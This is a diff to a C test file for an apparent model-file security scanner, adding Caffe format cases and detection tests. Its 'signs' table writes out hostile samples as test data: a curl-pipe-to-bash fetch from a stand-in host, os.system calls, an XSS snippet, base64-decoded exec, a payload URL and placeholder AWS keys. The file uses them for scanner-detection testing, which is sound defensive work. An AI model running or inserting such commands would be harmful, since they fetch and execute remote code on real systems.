@@ -19,6 +19,9 @@
 #define OP "4{1{1'X' 2'x'} 2{1'Out' 2'y'} 3'relu'} "
 #define VAR(dims) "3{1'x' 2{1:7 3{1{1:5 " dims "}}} 3:1} "
 #define PDL(more) "1{1:0 2:-1 " VAR("2:-1 2:3") OP more "} 4{1:2004002} "
+#define CAF(more) \
+	"1'net' 100{1'data' 2'Input' 4'data' 143{1{1:1 1:3}}} 100{1'fc' 2'InnerProduct' 3'data' 7{7{1#0202#} " \
+	"5#0000803f0000803f0000803f0000803f#} 117{1:2 3{1'xavier'}}} " more
 #define HEAD "$00000000000000000000000000000000$"
 /* A tensor of three floats: description of four bytes, 12 bytes of data. */
 #define PDP HEAD "$0400000008051003$ $0000803f0000803f0000803f$ "
@@ -129,6 +132,22 @@ static const struct row {
 	  PDL("4{3'a' 4{1'b' 5'AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'}}"),
 	  GH_OK, true, "GH-PDL-0206", NULL },
 
+	{ &gh_fmt_caffe, "a network", CAF(""), GH_OK, true, "tensor \"fc\" F32 [4]", "anomaly" },
+	{ &gh_fmt_caffe, "an old network",
+	  "1'net' 2{4'fc' 5:14 2'data' 3'fc' 6{1:1 2:1 3:1 4:2 5#0000803f0000803f#}} 3'data'", GH_OK, true,
+	  "tensor \"fc\" F32 [2]", "anomaly" },
+	{ &gh_fmt_caffe, "Python", CAF("100{1'p' 2'Python' 130{1'os' 2'system' 3'{}'}}"), GH_OK, true,
+	  "operation .Python", "anomaly" },
+	{ &gh_fmt_caffe, "a file", CAF("100{1'd' 2'HDF5Data' 112{1'/x.h5' 2:4}}"), GH_OK, true,
+	  "reference path \"/x.h5\" from \"d\"", "anomaly" },
+	{ &gh_fmt_caffe, "no type", CAF("100{1'd'}"), GH_OK, true, "GH-CAF-0001", NULL },
+	{ &gh_fmt_caffe, "unknown field", CAF("9:1"), GH_OK, true, "GH-CAF-0101", NULL },
+	{ &gh_fmt_caffe, "wire type", CAF("100{1:1 2'Input'}"), GH_OK, true, "GH-CAF-0102", NULL },
+	{ &gh_fmt_caffe, "two types", CAF("100{2'Input' 2'Python'}"), GH_OK, true, "GH-CAF-0103", NULL },
+	{ &gh_fmt_caffe, "overlong", CAF("$28818000$"), GH_OK, true, "GH-CAF-0104", NULL },
+	{ &gh_fmt_caffe, "control characters", CAF("100{2'Input' 1'a\x01'}"), GH_OK, true, "GH-CAF-0105", NULL },
+	{ &gh_fmt_caffe, "cut", CAF("$a206ff$"), GH_E_MALFORMED, false, NULL, NULL },
+
 	{ &gh_fmt_paddle_params, "tensors", PDP PDP, GH_OK, true, "tensor \"1\" F32 [3]", "anomaly" },
 	{ &gh_fmt_paddle_params, "levels",
 	  "$00000000$ $0100000000000000$ $1000000000000000$ $00000000000000000300000000000000$ $00000000$ "
@@ -179,7 +198,7 @@ static void every_row(void **st)
 	assert_int_equal(wrong, 0);
 }
 
-/* Messages of one kind within each other, to the limit and beyond: GH-CML-0106, GH-SPM-0106 and GH-PDL-0106 are one row,
+/* Messages of one kind within each other, to the limit and beyond: GH-CML-0106, GH-SPM-0106, GH-PDL-0106 and GH-CAF-0106 are one row,
  * which only Core ML's pipelines can reach. */
 static void nested(void **st)
 {
@@ -202,39 +221,42 @@ static void nested(void **st)
 	gh_events_free(&ev);
 }
 
-/* The signs are the same rows for every format: GH-CML-0201, -0202 …, seen through Core ML's description. */
+/* The signs are the same rows for every format, seen through a text of each. */
 static void signs(void **st)
 {
 	(void)st;
 	static const struct {
-		const char *id, *text;
+		const char *cml, *caf, *text;
 	} t[] = {
-		{ "GH-CML-0201", "import os; os.system(\"id\")" },
-		{ "GH-CML-0202", "curl http://a.example/x.sh | bash" },
-		{ "GH-CML-0203", "<script>alert(1)</script>" },
-		{ "GH-CML-0204", "exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))" },
-		{ "GH-CML-0205", "http://a.example/payload.exe" },
-		{ "GH-CML-0206",
+		{ "GH-CML-0201", "GH-CAF-0201", "import os; os.system(\"id\")" },
+		{ "GH-CML-0202", "GH-CAF-0202", "curl http://a.example/x.sh | bash" },
+		{ "GH-CML-0203", "GH-CAF-0203", "<script>alert(1)</script>" },
+		{ "GH-CML-0204", "GH-CAF-0204", "exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))" },
+		{ "GH-CML-0205", "GH-CAF-0205", "http://a.example/payload.exe" },
+		{ "GH-CML-0206", "GH-CAF-0206",
 		  "AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY" },
 	};
-	for (size_t i = 0; i < GH_ROWS(t); i++) {
-		gh_auto_buf in = gh_buf(4096), text = gh_buf(4096);
-		struct gh_events ev;
-		gh_buf_fmt(&text, "1:4 2{1{1'x'} 100{1'%s'}} 500{}", t[i].text);
-		gh_pb_make(&in, gh_buf_cstr(&text));
-		gh_events_walk(&ev, &gh_fmt_coreml, gh_buf_view(&in), "x.mlmodel", true);
-		assert_int_equal(ev.rc, GH_OK);
-		assert_true(gh_events_has(&ev, t[i].id));
-		gh_events_free(&ev);
-	}
+	for (size_t i = 0; i < GH_ROWS(t); i++)
+		for (int caffe = 0; caffe < 2; caffe++) {
+			gh_auto_buf in = gh_buf(4096), text = gh_buf(4096);
+			struct gh_events ev;
+			gh_buf_fmt(&text,
+				   caffe ? "1'n' 100{1'p' 2'Python' 130{3'%s'}}" : "1:4 2{1{1'x'} 100{1'%s'}} 500{}",
+				   t[i].text);
+			gh_pb_make(&in, gh_buf_cstr(&text));
+			gh_events_walk(&ev, caffe ? &gh_fmt_caffe : &gh_fmt_coreml, gh_buf_view(&in), "x", true);
+			assert_int_equal(ev.rc, GH_OK);
+			assert_true(gh_events_has(&ev, caffe ? t[i].caf : t[i].cml));
+			gh_events_free(&ev);
+		}
 }
 
 /* No format takes another one's message, text, or zeros for its own. */
 static void probes(void **st)
 {
 	(void)st;
-	static const struct gh_fmt *const all[] = { &gh_fmt_onnx, &gh_fmt_sentencepiece, &gh_fmt_coreml, &gh_fmt_paddle,
-						    &gh_fmt_paddle_params };
+	static const struct gh_fmt *const all[] = { &gh_fmt_onnx,   &gh_fmt_sentencepiece, &gh_fmt_coreml,
+						    &gh_fmt_paddle, &gh_fmt_caffe,	   &gh_fmt_paddle_params };
 	static const struct {
 		const char *text;
 		const struct gh_fmt *whose;
@@ -245,9 +267,9 @@ static void probes(void **st)
 		{ CML("555{10'Runner'}"), &gh_fmt_coreml },
 		{ PDL(""), &gh_fmt_paddle },
 		{ PDP, &gh_fmt_paddle_params },
+		{ CAF(""), &gh_fmt_caffe },
 		{ "1:8 7{1{4'Relu'} 2'g'} 8{2:13}", &gh_fmt_onnx },
 		{ "1:1 2{1{4'serve'} 2{1{1'x' 2'Const'}}}", NULL },
-		{ "1'net' 100{1'data' 2'Input'}", NULL },
 		{ "1{1'a'} 1{1'b'} 1{1'c'}", NULL },
 		{ "$0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a$", NULL },
 		{ "$00000000000000000000000000000000000000000000000000000000$", NULL },
@@ -326,6 +348,10 @@ static void judged(void **st)
 		{ PDL("4{3'listen_and_serv'}"), GH_UNSAFE, "GH-GRC-0003" },
 		{ PDL("4{3'tensorrt_engine'}"), GH_REVIEW, "GH-GRC-0004" },
 		{ PDP PDP, GH_CLEAN, "" },
+		{ CAF(""), GH_CLEAN, "" },
+		{ CAF("100{1'd' 2'HDF5Data' 112{1'/x.h5' 2:4}}"), GH_CLEAN, "" },
+		{ CAF("100{1'd' 2'HDF5Output' 113{1'x.h5'}}"), GH_UNSAFE, "GH-GRC-0002" },
+		{ CAF("100{1'p' 2'Python' 130{1'os' 2'system'}}"), GH_UNSAFE, "GH-GRC-0006" },
 	};
 	unsigned wrong = 0;
 	for (size_t i = 0; i < GH_ROWS(t); i++) {
